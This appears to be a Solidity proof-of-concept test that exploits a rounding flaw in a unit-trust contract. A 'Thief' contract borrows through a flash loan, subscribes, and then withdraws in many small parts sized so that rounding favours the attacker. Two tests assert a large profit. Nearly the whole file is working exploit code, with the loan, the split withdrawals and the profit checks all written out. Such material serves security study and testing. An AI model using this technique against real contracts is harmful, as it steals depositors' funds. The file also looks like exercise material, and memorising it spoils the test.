// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {FlashLender, Token} from "../split-rounding/src/Imports.sol";
import {UnitTrust} from "../split-rounding/src/UnitTrust.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address) external;
}

contract Thief is IFlashBorrower {
    Token private immutable cash;
    UnitTrust private immutable trust;
    uint256[] private parts;

    constructor(Token cash_, UnitTrust trust_) {
        (cash, trust) = (cash_, trust_);
        cash_.approve(address(trust_), type(uint256).max);
    }

    /// Leaves with as many units at a time as `parts_` says.
    function attack(FlashLender lender, uint256 amount, uint256[] calldata parts_) external {
        parts = parts_;
        lender.flashLoan(this, address(cash), amount, "");
        cash.transfer(msg.sender, cash.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        uint256 units;
        for (uint256 i; i < parts.length; ++i) units += parts[i];
        trust.subscribe(units, type(uint256).max);
        for (uint256 i; i < parts.length; ++i) trust.withdraw(_most(parts[i]), parts[i]);
        cash.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// The largest amount that is rounded down to `units`.
    function _most(uint256 units) private view returns (uint256 amount) {
        uint256 assets = trust.assets();
        uint256 issued = trust.unitsIssued();
        amount = (2 * units + 1) * assets / (2 * issued) + 1;
        while ((amount * issued + assets / 2) / assets > units) --amount;
    }
}

contract SplitRoundingTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant ATTACKER = address(0xBAD);

    Token cash;
    UnitTrust trust;
    FlashLender lender;

    function setUp() public {
        cash = new Token("Cash", "CASH");
        trust = new UnitTrust(cash, 25_000 ether);
        lender = new FlashLender(5);
        cash.mint(address(this), 900_000 ether);
        cash.mint(ALICE, 4_000_000 ether);
        cash.mint(BOB, 2_500_000 ether);
        cash.mint(ATTACKER, 30_000 ether);
        cash.mint(address(lender), 6_000_000 ether);
        cash.approve(address(trust), 1e60);
        trust.subscribe(20, 1e60);
        vm.prank(ALICE);
        cash.approve(address(trust), 1e60);
        vm.prank(ALICE);
        trust.subscribe(120, 1e60);
        vm.prank(BOB);
        cash.approve(address(trust), 1e60);
        vm.prank(BOB);
        trust.subscribe(80, 1e60);
        vm.prank(BOB);
        trust.redeem(5);
        trust.bookIncome(110_000 ether);
    }

    /// What the attacker gains, all of it with borrowed cash but for the fee.
    function _gain(uint256[] memory parts) private returns (uint256) {
        Thief thief = new Thief(cash, trust);
        uint256 units;
        for (uint256 i; i < parts.length; ++i) units += parts[i];
        uint256 value = (units * trust.assets() + trust.unitsIssued() - 1) / trust.unitsIssued();
        uint256 amount = value + (value * 150 + 9_999) / 10_000;
        uint256 before = cash.balanceOf(ATTACKER);
        vm.prank(ATTACKER);
        cash.transfer(address(thief), 30_000 ether);
        vm.prank(ATTACKER);
        thief.attack(lender, amount, parts);
        return cash.balanceOf(ATTACKER) - before;
    }

    function test_attack_pays() public {
        uint256[] memory parts = new uint256[](6);
        parts[0] = 15;
        for (uint256 i = 1; i < 6; ++i) parts[i] = 1;
        assert(_gain(parts) == 61_489_105_522_752_281_096_317);
    }

    function test_repeated_attack_pays_more() public {
        uint256[] memory parts = new uint256[](150);
        for (uint256 i; i < 150; ++i) parts[i] = 1;
        assert(_gain(parts) > 1_239_000 ether);
    }
}
